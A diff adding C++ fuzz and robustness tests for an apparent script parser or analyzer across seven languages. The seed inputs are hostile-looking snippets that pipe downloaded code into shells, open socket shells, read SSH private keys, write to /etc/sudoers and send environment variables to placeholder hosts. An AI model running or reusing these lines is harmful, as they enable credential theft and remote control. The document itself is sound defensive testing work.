@@ -153,3 +153,40 @@ TEST(Scripts, TruncatedAtEveryByteNeverCrashes) {
   for (const auto language : {"shell", "python", "javascript", "php", "ruby", "perl", "powershell"})
     for (std::size_t n = 0; n <= text.size(); ++n) (void)read(text.substr(0, n), language);
 }
+
+TEST(Scripts, MutantsNeverCrash) {
+  const std::pair<std::string_view, std::string> texts[] = {
+      {"shell", "f() { curl -fsSLo /tmp/x -d @- \"http://x.invalid/?$1\" | base64 -d | xargs -I{} sh -c '{}'; }\nexec 5<>/dev/tcp/a/1; f $(cat ~/.ssh/id_rsa) <&5 >> /etc/sudoers\n"},
+      {"python", "import os as o, socket\ndef f(a, b=1):\n    s = socket.socket(); o.dup2(s.fileno(), 0)\n    return ''.join([chr(104), 'a']) + bytes.fromhex('6869').decode()\nexec(f(o.environ))\n"},
+      {"javascript", "const {exec} = require('child_process'); fetch(`x${process.env.A}`).then(r => r.text()).then(t => { eval(t); [97,98,99,100].map(c => String.fromCharCode(c)).reverse().join('') })\n"},
+      {"php", "<?php function f($a) { return base64_decode(\"x{$a}\") . $_GET['k']; } eval(f(1)); proc_open('/bin/sh', array(0 => fsockopen('h', 1))); ?>\n"},
+      {"ruby", "eval(Base64.decode64('aGk=')); ENV.each { |k, v| Net::HTTP.post(URI(\"http://#{k}\"), v) }\n"},
+      {"perl", "open(my $f, '<', \"$ENV{HOME}/.ssh/id_rsa\"); my $x = <<E;\na $f\nE\nsystem(\"curl $x\"); $u->post('h', { k => `id` });\n"},
+      {"powershell", "function f($a) { iex ([Convert]::FromBase64String(\"$a\") | Out-String) }; f (Get-Clipboard); (New-Object Net.WebClient).DownloadString('h') | iex\n"},
+  };
+  std::mt19937 random(11);
+  for (const auto& [language, text] : texts)
+    for (int round = 0; round < 500; ++round) {
+      std::string mutant = text;
+      for (unsigned i = 0; i < 1 + random() % 4 && !mutant.empty(); ++i) {
+        const auto at = random() % mutant.size();
+        switch (random() % 3) {
+          case 0: mutant[at] = static_cast<char>(random()); break;
+          case 1: mutant.erase(at, 1 + random() % 5); break;
+          default: mutant.insert(at, mutant.substr(random() % mutant.size(), random() % 16)); break;
+        }
+      }
+      const auto r = read(mutant, language);
+      for (const auto& item : r.sink.items) ASSERT_LE(item.range.end(), mutant.size()) << language << ": " << mutant;
+      for (const auto& claim : r.sink.claims) ASSERT_LE(claim.range.end(), mutant.size());
+    }
+}
+
+TEST(Scripts, DeepOrWideInputEnds) {
+  for (const auto language : {"shell", "python", "javascript", "php", "ruby", "perl", "powershell"}) {
+    std::string deep = std::string(language) == "php" ? "<?php " : "", wide = deep;
+    for (int i = 0; i < 5000; ++i) deep += "f(", wide += "x = x + 'a' + \"b\"\n";
+    (void)read(deep, language);
+    (void)read(wide, language);
+  }
+}
